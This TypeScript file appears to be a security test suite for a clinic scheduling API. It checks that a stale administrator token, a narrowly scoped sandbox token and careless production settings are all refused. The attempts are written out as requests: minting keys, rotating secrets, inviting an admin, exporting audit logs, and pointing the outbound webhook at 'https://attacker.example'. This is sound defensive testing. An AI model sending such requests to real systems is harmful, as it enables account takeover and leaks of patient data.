import { newClientKey, signAssertion } from '@clinic/shared/client-key';
import { readApiConfig } from '@clinic/shared/config';
import type { Outcome } from './attack';
import type { Target } from './target';

const ADDRESS = '203.0.113.20';

/** What an administrator's token that was stolen a while after the sign-in opens by itself. */
export async function stolenToken(target: Target): Promise<Outcome> {
  const bearer = JSON.parse((await target.signIn(ADDRESS, target.clinic)).text).token as string;
  await target.database.sql`update sessions set proved_at = now() - interval '6 minutes'`;
  await target.restartApi();
  const person = target.clinic.staff.email;
  const tries: [string, string, object?][] = [
    ['POST', '/api/integrations/api-keys', { name: 'Mine' }],
    ['POST', '/api/integrations/outbound/rotate-secret'],
    ['POST', '/api/integrations/inbound/forms-abandoned/rotate-secret'],
    ['PUT', '/api/integrations/outbound', { url: 'https://attacker.example', enabled: true, events: [] }],
    ['POST', '/api/accounts/invitations', { email: person, role: 'admin' }],
    ['PUT', '/api/auth/password', { password: target.clinic.password, newPassword: 'another quiet lighthouse' }],
    ['GET', '/api/audit/export'],
    ['PUT', '/api/retention', { event_bodies: 30 }],
    ['POST', '/api/sandboxes', { name: 'mine' }],
  ];
  const opened: string[] = [];
  for (const [method, path, body] of tries) {
    const { status } = await target.from(ADDRESS, method, path, { bearer, body });
    if (status !== 403) opened.push(`${method} ${path} (${status})`);
  }
  const read = await target.from(ADDRESS, 'GET', '/api/tasks', { bearer });
  return {
    attack: 'an administrator’s token, stolen six minutes after the sign-in',
    tried: `${tries.length} ways to keys, secrets, receivers, people, exports`,
    through: opened.length === 0 ? 'none' : opened.join(', '),
    honest: `the page of tasks is answered ${read.status}`,
    limit: 'none without a fresh proof',
    holds: opened.length === 0 && read.status === 200,
  };
}

/** What a token of the sandbox that may read slots opens besides. */
export async function narrowScope(target: Target): Promise<Outcome> {
  const bearer = JSON.parse((await target.signIn(ADDRESS, target.clinic)).text).token as string;
  await target.from(ADDRESS, 'PUT', '/api/abandonment-recovery/sandbox-emr/config', {
    bearer,
    body: { enabled: true },
  });
  const key = await newClientKey('ES384');
  const about = { name: 'Narrow', jwks: { keys: [key.publicJwk] } };
  const { text } = await target.from(ADDRESS, 'POST', '/api/sandbox/clients', { bearer, body: about });
  const audience = `${target.baseUrl}/sandbox/token`;
  const clientId = JSON.parse(text).id as string;
  const granted = await target.request('POST', '/sandbox/token', {
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({
      grant_type: 'client_credentials',
      scope: 'system/Slot.rs',
      client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
      client_assertion: await signAssertion(key, { clientId, audience }),
    }).toString(),
  });
  const token = granted.body.access_token as string;
  const identifier = { resourceType: 'Parameters', parameter: [{ name: 'identifier', valueString: 'MRN-1' }] };
  const tries: [string, string, object?][] = [
    ['GET', '/api/Appointment?patient=Patient/any'],
    ['POST', '/api/Patient/$match', identifier],
    ['POST', '/api/Appointment/any/$cancel'],
    ['POST', '/api/Appointment/any/$reschedule', { start: '2035-03-05T09:00:00.000Z' }],
    ['POST', '/api/DocumentReference', { resourceType: 'DocumentReference', subject: { reference: 'Patient/any' } }],
    ['GET', '/api/Subscription'],
    ['GET', '/api/tasks'],
    ['GET', '/api/patients'],
  ];
  const statuses = await Promise.all(
    tries.map(
      async ([method, path, body]) => (await target.from(ADDRESS, method, path, { bearer: token, body })).status,
    ),
  );
  const own = await target.from(ADDRESS, 'GET', '/api/Slot?schedule=Schedule/Dr.Chen', { bearer: token });
  const through = tries.filter((_, at) => statuses[at] !== 403 && statuses[at] !== 401).map(([, path]) => path);
  return {
    attack: 'a token of the sandbox for system/Slot.rs',
    tried: `${tries.length} other resources and routes`,
    through: through.length === 0 ? 'none' : through.join(', '),
    honest: `slots are answered ${own.status}`,
    limit: 'none',
    holds: through.length === 0 && own.status === 200,
  };
}

/** Environments of production, each careless in one way. */
export function carelessGuards(target: Target): Outcome {
  const careful = {
    ...target.env,
    NODE_ENV: 'production',
    LOCAL_STACK: '0',
    ALLOW_PRIVATE_TARGETS: '0',
    PUBLIC_URL: 'https://clinic.example',
  };
  const careless: NodeJS.ProcessEnv[] = [
    ...['prod', 'Production', 'staging', ''].map((NODE_ENV) => ({ NODE_ENV, LOCAL_STACK: '1' })),
    { NODE_TLS_REJECT_UNAUTHORIZED: '0' },
    { DATABASE_URL: 'postgresql://clinic:pw@db.example/clinic?sslmode=require&uselibpqcompat=true' },
    { DATABASE_URL: 'postgresql://clinic:pw@db.example/clinic' },
    { TEMPORAL_ADDRESS: 'temporal.example:7233' },
    { AUTH_SECRET: 'correct horse battery staple and then some' },
    { AUTH_SECRET: 'cedar-family-health-2026-session-key' },
    { FRESH_PROOF_MINUTES: '720' },
    { PUBLIC_URL: 'http://clinic.example' },
  ];
  const started = careless.filter((change) => {
    try {
      readApiConfig({ ...careful, ...change });
      return true;
    } catch {
      return false;
    }
  });
  return {
    attack: 'an API started in production with one careless setting',
    tried: `${careless.length} environments`,
    through:
      started.length === 0 ? 'none started' : started.map((change) => Object.keys(change).join(' and ')).join(', '),
    honest: 'nobody is there yet',
    limit: 'none starts',
    holds: started.length === 0,
  };
}
